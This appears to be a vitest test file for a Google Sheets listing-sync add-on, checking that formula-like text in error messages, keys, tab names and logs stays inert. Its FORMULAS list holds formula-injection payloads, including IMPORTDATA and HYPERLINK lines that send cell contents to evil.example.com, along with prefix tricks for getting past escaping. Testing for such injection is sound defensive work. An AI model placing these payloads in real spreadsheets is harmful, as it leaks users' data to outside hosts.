import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { LISTING_HEADERS, listingRow, listingRows, records } from '../listings.ts';
import { describeGuards } from './guards.ts';
import { openStage, type Scene, type Stage } from './stage.ts';
import { foreignInputs, LOG_TAB, OWN_HEADERS } from './tab-texts.ts';

let stage: Stage;
beforeAll(async () => {
  stage = await openStage();
});
afterAll(() => stage.close());

const sync = { action: 'sync', scope: 'tab' } as const;

/** What spreadsheets take for a formula, and what hides one. */
const FORMULAS = [
  '=IMPORTDATA("https://evil.example.com/?"&A1)',
  '=HYPERLINK("https://evil.example.com/?"&A1,"click")',
  '+1+cmd',
  '-2+3',
  '@SUM(1+1)',
  "'=1+1",
  '\t=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '＝1+1',
] as const;

/** When somebody clears the formatting of all cells, the text format of the add-on's columns among it. */
const CLEARINGS = ['never', 'before the run', 'while the run waits', 'while a wave is under way'] as const;

/** A complete listing for each of the texts. */
const KEYS = FORMULAS.map((_, index) => `A${index}`);
const situation = { rows: listingRows(...KEYS), platform: { listings: records(...KEYS) } };

/** Every formula in the spreadsheet, as Google sees them; the people of these tests type none. */
async function formulasIn({ emulator }: Scene): Promise<unknown> {
  const report = await emulator.evaluate(`
    return SpreadsheetApp.getActiveSpreadsheet().getSheets()
      .flatMap((sheet) => sheet.getDataRange().getFormulas().flat())
      .filter((formula) => formula !== '');`);
  return report.outcome.kind === 'returned' ? report.outcome.value : report.outcome;
}

/** Runs, while somebody clears all formatting at a moment. */
async function runWhileCleared(scene: Scene, tabName: string, clearing: (typeof CLEARINGS)[number]): Promise<void> {
  const clear = () => scene.emulator.hands.setNumberFormat(tabName, 'A1:Z40', 'General');
  if (clearing === 'before the run') {
    await scene.run(sync);
    clear();
    scene.emulator.hands.clear(tabName, `U2:U${KEYS.length + 1}`);
  }
  const progress = await scene.start(sync);
  if (clearing === 'while the run waits') {
    clear();
    await scene.wait(30_000);
  }
  const stop = scene.platform.journal.onEntry(() => {
    stop();
    if (clearing === 'while a wave is under way') clear();
  });
  await scene.finish(progress);
}

/** Values of the add-on's cells that are no text; the first time a row is written they are blank or text. */
function valuesThatAreNoText({ emulator }: Scene, tabName: string): readonly unknown[] {
  const [headers = [], ...rows] = emulator.hands.values(tabName);
  const own = OWN_HEADERS.map((header) => headers.indexOf(header));
  return rows.flatMap((row) => own.map((columnIndex) => row[columnIndex])).filter((value) => typeof value !== 'string');
}

describe('text that looks like a formula', () => {
  test.each(CLEARINGS)('stays text when the platform says it, and formats are cleared: %s', async (clearing) => {
    const scene = await stage.begin(situation);
    FORMULAS.forEach((message, index) => {
      const fault = { kind: 'businessError', code: 400, message } as const;
      scene.platform.faults.add({ fault, bodyIncludes: `"A${index}"` });
    });
    await runWhileCleared(scene, 'Tab', clearing);
    const details = scene.column('Sync detail');
    FORMULAS.forEach((message, index) => {
      expect(details[index]).toContain(message.trim());
    });
    expect(new Set(scene.column('Sync status'))).toEqual(new Set(['Rejected']));
    expect(await formulasIn(scene)).toEqual([]);
    expect(valuesThatAreNoText(scene, 'Tab')).toEqual([]);
    scene.end();
  });

  test.each(FORMULAS)('stays text when it is a key, the name of the tab and a gone row’s label: %j', async (text) => {
    const rows = [
      LISTING_HEADERS,
      listingRow(`'${text}`, { 'Listing URL': 'https://homes.example.com/1' }),
      listingRow('A2'),
      listingRow('A3', { Bedrooms: `'${text}` }),
    ];
    const scene = await stage.begin({ rows, platform: { listings: records('A2', 'A3') } });
    const foreign = foreignInputs(scene.emulator.hands.snapshot());
    const name = text.trim().slice(0, 40);
    scene.emulator.hands.renameTab('Tab', name);
    const progress = await scene.start(sync);
    const stop = scene.platform.journal.onEntry(() => {
      stop();
      scene.emulator.hands.deleteRows(name, 2, 1);
    });
    await scene.finish(progress);
    expect(foreignInputs(scene.emulator.hands.snapshot())).toEqual(foreign.filter((_, rowIndex) => rowIndex !== 1));
    expect(await formulasIn(scene)).toEqual([]);
    expect(scene.column('Outcomes of rows that were gone', LOG_TAB)[0]).toContain('Not found');
    scene.end();
  });

  test('stays text in the log although somebody cleared its formats', async () => {
    const scene = await stage.begin(situation);
    const { hands } = scene.emulator;
    await scene.run(sync);
    hands.setNumberFormat(LOG_TAB, 'A1:Z1000', 'General');
    for (const text of FORMULAS) {
      hands.type('Tab', 'A2', `'${text}`);
      hands.type('Tab', 'E3', `'${text}`);
      await scene.run(sync);
    }
    expect(scene.column('First problem', LOG_TAB)).toHaveLength(1 + FORMULAS.length);
    expect(await formulasIn(scene)).toEqual([]);
    scene.end();
  });
});

describeGuards(() => stage);
